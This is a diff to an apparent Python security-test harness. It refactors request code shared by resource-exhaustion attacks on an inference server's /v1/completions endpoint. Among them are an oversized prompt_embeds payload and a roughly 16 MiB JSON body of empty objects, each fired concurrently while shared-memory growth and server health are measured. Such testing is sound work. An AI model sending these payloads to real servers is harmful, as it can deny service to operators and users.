@@ -229,6 +229,15 @@ def attack_nested(url: str) -> dict:
         return {"status": type(e).__name__}
 
 
+def _post_json(url: str, body: bytes, timeout: float) -> str:
+    """POST a JSON body to ``/v1/completions``: its status, or the error's name."""
+    try:
+        return str(requests.post(url + "/v1/completions", data=body, timeout=timeout,
+                                 headers={"Content-Type": "application/json"}).status_code)
+    except requests.RequestException as e:
+        return type(e).__name__
+
+
 class PeakShm:
     """Peak growth of ``/dev/shm``'s used bytes over a window (every 20 ms)."""
 
@@ -273,16 +282,9 @@ def attack_stride0(url: str, hidden: int, max_len: int) -> dict:
     body = json.dumps({"model": "tiny", "max_tokens": 1, "prompt_embeds": payload,
                        "user": "u" * (2 * MIB)}).encode()
 
-    def post(_: int) -> str:
-        try:
-            return str(requests.post(url + "/v1/completions", data=body, timeout=300,
-                                     headers={"Content-Type": "application/json"}).status_code)
-        except requests.RequestException as e:
-            return type(e).__name__
-
     t0 = time.monotonic()
     with PeakShm() as shm, ThreadPoolExecutor(4) as pool:
-        statuses = list(pool.map(post, range(4)))
+        statuses = list(pool.map(lambda _: _post_json(url, body, 300), range(4)))
     return {"statuses": _codes(statuses), "payload_kb": round(len(payload) / 1024, 1),
             "logical_mib": rows * hidden * 4 // MIB, "wall_s": round(time.monotonic() - t0, 2),
             "dev_shm_growth_mb": shm.growth_mb}
@@ -748,16 +750,9 @@ def attack_json_skeleton(url: str) -> dict:
     holding ``[{},{},...]``."""
     items = ((16 << 20) - 64) // 3
     body = b'{"model": "tiny", "prompt": "hi", "prompt_embeds": [' + b"{}," * items + b'{}]}'
-    def post(_: int) -> str:
-        try:
-            return str(requests.post(url + "/v1/completions", data=body, timeout=120,
-                                     headers={"Content-Type": "application/json"}).status_code)
-        except requests.RequestException as e:
-            return type(e).__name__
-
     t0 = time.monotonic()
     with HealthProbe(url) as health, ThreadPoolExecutor(4) as pool:
-        statuses = list(pool.map(post, range(4)))
+        statuses = list(pool.map(lambda _: _post_json(url, body, 120), range(4)))
     wall = time.monotonic() - t0
     return {"statuses": _codes(statuses), "body_mib": round(len(body) / MIB, 1),
             "wall_s": round(wall, 2), **health.figures()}
